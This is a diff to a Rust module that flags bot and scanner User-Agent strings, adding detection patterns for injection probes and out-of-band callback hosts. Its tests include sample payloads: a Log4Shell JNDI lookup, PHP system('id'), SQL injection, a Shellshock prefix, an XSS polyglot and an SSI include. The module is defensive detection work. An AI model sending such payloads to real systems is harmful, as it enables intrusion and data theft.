@@ -14,8 +14,10 @@
 //! - a contact address introduced by `+` (`+http://...`, `+www.`), the
 //!   crawlers' convention;
 //!
-//! - code or a template where a name goes ([`INJECTIONS`]: `${jndi:`,
-//!   `<?php`, `{{.`), the scanners' probes;
+//! - a scanner's probe where a name goes ([`INJECTIONS`]: code or a
+//!   template, `${jndi:`, `<?php`, `{{.`, `<script`, an SQL `(select `; or
+//!   the out-of-band host a scanner plants to see who calls it back,
+//!   `*.burpcollaborator.net`, `*.oastify.com`, `*.interact.sh`);
 //! - the shape of a script's User-Agent ([`script_shape`]): one product and
 //!   nothing else (`Hakai/2.0`, `python`, `My User Agent 1.0`), unless it
 //!   names a device or a player (`iPhone15`, `iTunes-AppleTV/4.1`), or a bare
@@ -60,9 +62,43 @@ pub const PREFIX_WORDS: [&str; 8] = ["crawl", "spider", "scraper", "scraping", "
 /// Markers of headless browsers and browser automation, anywhere.
 pub const HEADLESS: [&str; 10] = ["headless", "phantomjs", "selenium", "webdriver", "playwright", "puppeteer", "htmlunit", "jsdom", "lightpanda", "slimerjs"];
 
-/// Code or a template where a name goes: Log4Shell's `${jndi:`, PHP's open
-/// tags, a Go template left unfilled.
-pub const INJECTIONS: [&str; 4] = ["${jndi", "<?=", "<?php", "{{."];
+/// A scanner's probe where a name goes: Log4Shell's `${jndi:`, PHP's open
+/// tags, a Go template left unfilled, markup (a doctype, a comment or an
+/// entity, a script, an SVG or an image with its handlers, a `javascript:`
+/// address, markup escaped as `&lt;`), SQL's subqueries and delays,
+/// Shellshock's function definition, a path to the password file;
+/// and the out-of-band hosts of the scanners that plant them (Burp Suite's
+/// Collaborator, `burpcollaborator.net` and `oastify.com`; ProjectDiscovery's
+/// interactsh, `interact.sh` and the `oast.*` domains; `dnslog.cn`,
+/// `ceye.io`), which no browser's User-Agent holds.
+pub const INJECTIONS: [&str; 26] = [
+    "${jndi",
+    "<?=",
+    "<?php",
+    "{{.",
+    "<script",
+    "<!doctype",
+    "<!--",
+    "<!entity",
+    "<svg",
+    "<img",
+    "javascript:",
+    "onerror=",
+    "&lt;",
+    "(select ",
+    "union select",
+    "sleep(",
+    "waitfor delay",
+    "() {",
+    "/etc/passwd",
+    "burpcollaborator.",
+    "oastify.",
+    "interact.sh",
+    "interactsh",
+    ".oast.",
+    "dnslog.cn",
+    "ceye.io",
+];
 
 /// A browser engine's tokens: a User-Agent with one of them is not judged by
 /// its addresses or its first product.
@@ -77,7 +113,7 @@ const DEVICE: [&str; 10] = ["android", "hbbtv", "smart-tv", "smarttv", "tizen", 
 
 /// What every rule needs somewhere in the User-Agent (lower case), besides
 /// an `@`: each rule's words contain one of these.
-pub const NEEDLES: [&str; 35] = [
+pub const NEEDLES: [&str; 55] = [
     "bot",
     "crawl",
     "spider",
@@ -107,6 +143,26 @@ pub const NEEDLES: [&str; 35] = [
     "<?=",
     "<?php",
     "{{.",
+    "<script",
+    "<!doctype",
+    "<!--",
+    "<!entity",
+    "<svg",
+    "<img",
+    "javascript:",
+    "onerror=",
+    "&lt;",
+    "select",
+    "sleep(",
+    "waitfor",
+    "() {",
+    "/etc/passwd",
+    "burpcollab",
+    "oastify",
+    "interact",
+    ".oast.",
+    "dnslog",
+    "ceye.io",
     "http",
     "www.",
     "request",
@@ -122,7 +178,8 @@ pub enum Signal {
     Word,
     /// A headless browser's or an automation tool's marker.
     Headless,
-    /// Code or a template where a name goes.
+    /// A scanner's probe where a name goes: code, a template or an
+    /// out-of-band host.
     Injection,
     /// A `+http`, `+https`, `+www.` or `+` e-mail contact.
     Contact,
@@ -139,7 +196,7 @@ impl Signal {
         match self {
             Signal::Word => "a bot word",
             Signal::Headless => "a headless browser's marker",
-            Signal::Injection => "code or a template where a name goes",
+            Signal::Injection => "a scanner's probe where a name goes",
             Signal::Contact => "a +http contact",
             Signal::Shape => "a script's shape: one product, or a bare Mozilla",
             Signal::Address => "an address and no browser engine",
@@ -663,6 +720,17 @@ mod tests {
         for (ua, signal) in [
             ("${jndi:ldap://x.example/a}", Signal::Injection),
             ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 <?php system('id'); ?>", Signal::Injection),
+            ("Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0 Safari/537.36'+(select load_file('x'))+'", Signal::Injection),
+            (
+                "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0 Safari/537.36 root@x8f6g.burpcollaborator.net",
+                Signal::Injection,
+            ),
+            ("Godzilla/17.0 (Nexus 5X Build/MMB29P) NoWebKit/5.36 (DOM, like Rhino; n7vbji2k.oastify.com) TOR/540.5.3", Signal::Injection),
+            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 () { :; }; echo", Signal::Injection),
+            ("javascript:/*</script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", Signal::Injection),
+            ("&lt;script type=&quot;text/javascript&quot;&gt;", Signal::Injection),
+            ("<!DOCTYPE html>", Signal::Injection),
+            ("<!--#include virtual=\"/proc/version\"-->", Signal::Injection),
             ("Mozilla/5.0 (compatible; +centuryb.o.t9@gmail.com)", Signal::Contact),
             ("Hakai/2.0", Signal::Shape),
             ("Mozilla/5.0 (compatible; Kaupr/1.0)", Signal::Shape),
